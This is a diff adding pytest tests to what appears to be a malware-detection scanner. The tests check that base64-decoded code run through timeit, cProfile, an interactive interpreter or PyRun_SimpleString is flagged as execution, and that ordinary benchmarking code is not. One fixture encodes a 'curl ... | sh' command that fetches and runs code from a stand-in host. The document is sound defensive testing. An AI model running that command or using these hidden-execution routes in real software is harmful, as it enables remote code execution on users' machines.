@@ -508,3 +508,31 @@ def test_code_loaded_from_a_shipped_archive_versus_from_a_source_file_or_a_calle
     )
     for benign in (source, given, plugin, built):
         assert "PV-EXE-006" not in ids(run(RULES, benign, pkg))
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "timeit.timeit({code}, number=1)",
+        "cProfile.run({code})",
+        "code.InteractiveInterpreter().runsource({code}, symbol='exec')",
+        "ctypes.pythonapi.PyRun_SimpleString({code}.encode())",
+    ],
+)
+def test_decoded_code_run_by_a_timer_profiler_or_the_c_api_is_exec(call: str) -> None:
+    """timeit, cProfile, an interactive interpreter and PyRun_SimpleString all run a statement
+    handed to them as text: a decoded payload run by one of them is run, as by exec."""
+    payload = base64.b64encode(b"import os; os.system('curl -s https://h.example/x | sh')").decode()
+    code = f"base64.b64decode('{payload}').decode()"
+    bad = py(f"import base64, code, cProfile, ctypes, timeit\n{call.format(code=code)}\n")
+    found = [f for f in run(RULES, bad) if f.rule == "PV-EXE-001"]
+    assert [f.severity for f in found] == [Severity.CRITICAL]
+
+
+def test_timing_a_statement_the_caller_passes_is_no_finding() -> None:
+    bench = py(
+        "import cProfile, timeit\ndef time_it(stmt, number=1000):\n"
+        "    return timeit.timeit(stmt, number=number)\ndef profile(stmt):\n    cProfile.run(stmt)\n",
+        stage=Stage.RUNTIME,
+    )
+    assert run(ALL_RULES, bench) == []
